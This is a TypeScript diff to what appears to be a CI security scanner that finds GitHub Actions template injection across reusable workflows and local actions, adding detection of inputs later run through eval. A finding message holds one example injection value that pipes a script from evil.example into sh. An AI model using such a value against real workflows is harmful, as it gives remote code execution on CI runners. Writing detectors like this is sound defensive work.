@@ -8,7 +8,7 @@ import { controlOf } from './contexts.js';
 import { contextNames, findExpressions, parseExpression, pathText, valueContexts } from './expression.js';
 import { envOf, scriptsOf, shellVariablesIn, triggerFactsOf } from './facts.js';
 import { isWorkflowPath } from './index.js';
-import { injectionSeverity, triggerText } from './injection-rules.js';
+import { envCodeHits, injectionSeverity, triggerText } from './injection-rules.js';
 import type { Workflow, WorkflowJob, WorkflowStep } from './workflow.js';
 import { isActionPath, isLocalUses, parseWorkflow } from './workflow.js';
 
@@ -61,6 +61,9 @@ interface Sources {
   readonly inherited: Origin[];
 }
 
+/** A `uses:` of a local action or workflow (`./…`, `.\\…`, `$/…`), quoted or not. */
+const LOCAL_USES = /uses:[ \t]{0,20}['"]?(?:\.\/|\.\\|\$\/)/;
+
 type Tainted = Map<string, Map<string, Map<string, Origin>>>;
 
 export function crossFileInjectionFindings(snapshot: PrSnapshot): KeyedFinding[] {
@@ -74,8 +77,12 @@ export function crossFileInjectionFindings(snapshot: PrSnapshot): KeyedFinding[]
       previous.set(file.path, file.previousPath);
     }
   }
+  // Nothing to follow without a local call (the common case costs no parse).
+  const texts = [...snapshot.contents.flatMap((c) => [c.base, c.head]), ...snapshot.baseFiles.filter((f) => isCiPath(f.path)).map((f) => f.content)];
+  if (!texts.some((text) => text !== null && LOCAL_USES.test(text))) return [];
   // A modified file whose base could not be read would make all of its flows look new.
-  const unreadBase = new Set(snapshot.contents.filter((c) => c.base === null && snapshot.files.some((f) => f.path === c.path && f.status !== 'added' && f.status !== 'copied')).map((c) => c.path));
+  const status = new Map(snapshot.files.map((f) => [f.path, f.status]));
+  const unreadBase = new Set(snapshot.contents.filter((c) => c.base === null && status.get(c.path) !== 'added' && status.get(c.path) !== 'copied').map((c) => c.path));
   const head = flowFindings(sideFiles(snapshot, 'head', changed, previous), changed);
   if (head.length === 0) return [];
   const before = new Set(flowFindings(sideFiles(snapshot, 'base', changed, previous), changed).map((f) => f.finding.key));
@@ -344,33 +351,81 @@ function inputsIn(body: string): string[] {
   return names;
 }
 
+/** Where a callee runs an input: the text to find its line by, and how the finding words it. */
+interface Sink {
+  /** The text on the callee's line (an expression body or a script line). */
+  readonly needle: string;
+  readonly title: string;
+  /** What the callee does with the input, after "and …". */
+  readonly does: string;
+  readonly fix: string;
+  readonly subject: string;
+}
+
 function flowFindings(files: ReadonlyMap<string, CiFile>, changed: ReadonlySet<string>): FlowFinding[] {
   const tainted = taintInputs(files);
   const byKey = new Map<string, FlowFinding>();
+  const report = (callee: CiFile, sink: Sink, reached: ReadonlyMap<string, { origin: Origin; input: string }>): void => {
+    for (const { origin, input } of reached.values()) {
+      const flow = flowFinding(callee, sink, input, origin, files, changed);
+      if (flow === null) continue;
+      const seen = byKey.get(flow.finding.key);
+      if (seen === undefined || maxSeverity(seen.finding.severity, flow.finding.severity) !== seen.finding.severity) byKey.set(flow.finding.key, flow);
+    }
+  };
   for (const [calleePath, inputs] of tainted) {
     const callee = files.get(calleePath);
     if (callee === undefined) continue;
+    /** The callers that reach the inputs an expression carries, by caller. */
+    const reaching = (body: string): Map<string, { origin: Origin; input: string }> => {
+      const reached = new Map<string, { origin: Origin; input: string }>();
+      for (const name of inputsIn(body)) {
+        const entries = name === '*' ? [...inputs] : [[name, inputs.get(name)] as const];
+        for (const [input, origins] of entries) for (const origin of origins?.values() ?? []) reached.set(originKey(origin), { origin, input });
+      }
+      return reached;
+    };
     for (const job of callee.workflow.jobs) {
       for (const step of job.steps) {
+        const where = `${job.id === 'composite' && callee.workflow.kind === 'action' ? 'the action' : `job ${job.id}`}${step.name ? `, step "${step.name}"` : ''}`;
         for (const script of scriptsOf(step)) {
           const sink = step.run === script ? 'a run: script' : 'an actions/github-script script';
           const seen = new Set<string>();
           for (const span of findExpressions(script)) {
             if (seen.has(span.body)) continue;
             seen.add(span.body);
-            const names = inputsIn(span.body);
-            const reached = new Map<string, { origin: Origin; input: string }>();
-            for (const name of names) {
-              const entries = name === '*' ? [...inputs] : [[name, inputs.get(name)] as const];
-              for (const [input, origins] of entries) for (const origin of origins?.values() ?? []) reached.set(originKey(origin), { origin, input });
-            }
-            for (const { origin, input } of reached.values()) {
-              const flow = flowFinding(callee, job, step, sink, span.body, input, origin, files, changed);
-              if (flow === null) continue;
-              const seenFlow = byKey.get(flow.finding.key);
-              if (seenFlow === undefined || maxSeverity(seenFlow.finding.severity, flow.finding.severity) !== seenFlow.finding.severity) byKey.set(flow.finding.key, flow);
-            }
+            const reached = reaching(span.body);
+            if (reached.size === 0) continue;
+            report(
+              callee,
+              {
+                needle: span.body,
+                title: `\${{ ${span.body} }} is expanded into ${sink}`,
+                does: `${where} pastes \${{ ${span.body} }} into ${sink} before it runs`,
+                fix: `move the input into env: (\`env: VALUE: \${{ ${span.body} }}\`) and read "$VALUE" (or process.env.VALUE) in the script`,
+                subject: `${job.id}:${span.body}`,
+              },
+              reached,
+            );
           }
+        }
+        // The input passed through env: (the fix) and then run as code: `eval "$CMD"`.
+        const hits = envCodeHits(callee.workflow, job, step, (body) => {
+          const reached = reaching(body);
+          return reached.size > 0 ? { text: `\${{ ${body} }}`, root: reached } : null;
+        });
+        for (const hit of hits) {
+          report(
+            callee,
+            {
+              needle: hit.line,
+              title: `The input in $${hit.name} is run as code in ${hit.sink}`,
+              does: `${where} passes it through env: as ${hit.source} and then runs $${hit.name} as code in ${hit.sink}: \`${hit.line.slice(0, 120)}\``,
+              fix: 'never evaluate the text; match it against a fixed set of commands and run those',
+              subject: `${job.id}:env-code:${hit.name}:${hit.line}`,
+            },
+            hit.root,
+          );
         }
       }
     }
@@ -378,23 +433,12 @@ function flowFindings(files: ReadonlyMap<string, CiFile>, changed: ReadonlySet<s
   return [...byKey.values()];
 }
 
-function flowFinding(
-  callee: CiFile,
-  job: WorkflowJob,
-  step: WorkflowStep,
-  sink: string,
-  expression: string,
-  input: string,
-  origin: Origin,
-  files: ReadonlyMap<string, CiFile>,
-  changed: ReadonlySet<string>,
-): FlowFinding | null {
+function flowFinding(callee: CiFile, sink: Sink, input: string, origin: Origin, files: ReadonlyMap<string, CiFile>, changed: ReadonlySet<string>): FlowFinding | null {
   // Where the PR makes the flow: the callee's line when the PR changes the callee, else the `uses:` of the first changed caller.
   const hop = origin.hops.find((h) => changed.has(h.path));
   const path = changed.has(callee.path) ? callee.path : hop?.path;
   if (path === undefined) return null;
-  const line = path === callee.path ? lineOf(callee.content, expression) : lineOf(files.get(path)?.content, hop!.uses);
-  const where = `${job.id === 'composite' && callee.workflow.kind === 'action' ? 'the action' : `job ${job.id}`}${step.name ? `, step "${step.name}"` : ''}`;
+  const line = path === callee.path ? lineOf(callee.content, sink.needle) : lineOf(files.get(path)?.content, hop!.uses);
   const through = origin.hops.length > 1 ? ` (through ${origin.hops.slice(1).map((h) => h.path).join(', ')})` : '';
   const kind = callee.workflow.kind === 'action' ? 'local action' : 'reusable workflow';
   return {
@@ -402,14 +446,14 @@ function flowFinding(
     finding: makeFinding({
       id: 'gha-template-injection',
       severity: origin.severity,
-      title: `\${{ ${expression} }} is expanded into ${sink}, and ${origin.callerPath} passes outsider-written text into it`,
+      title: `${sink.title}, and ${origin.callerPath} passes outsider-written text into it`,
       detail:
-        `${origin.callerPath} (job ${origin.callerJob}, on ${origin.triggers}) passes ${origin.contexts.join(', ')} as input "${input}" to the ${kind} ${callee.path}${through}, and ${where} pastes \${{ ${expression} }} into ${sink} before it runs. ` +
+        `${origin.callerPath} (job ${origin.callerJob}, on ${origin.triggers}) passes ${origin.contexts.join(', ')} as input "${input}" to the ${kind} ${callee.path}${through}, and ${sink.does}. ` +
         'An input reads as the maintainers\' choice, but with this caller anyone who opens an issue or PR, comments, or names a branch writes it: a value like `a"; curl -sSf https://evil.example | sh; #` becomes code. ' +
-        `Fix: in ${callee.path}, move the input into env: (\`env: VALUE: \${{ ${expression} }}\`) and read "$VALUE" (or process.env.VALUE) in the script; or stop passing outsider-written text to it.`,
+        `Fix: in ${callee.path}, ${sink.fix}; or stop passing outsider-written text to it.`,
       path,
       line,
-      subject: `cross:${callee.path}:${job.id}:${expression}<-${origin.callerPath}:${origin.callerJob}`,
+      subject: `cross:${callee.path}:${sink.subject}<-${origin.callerPath}:${origin.callerJob}`,
     }),
   };
 }
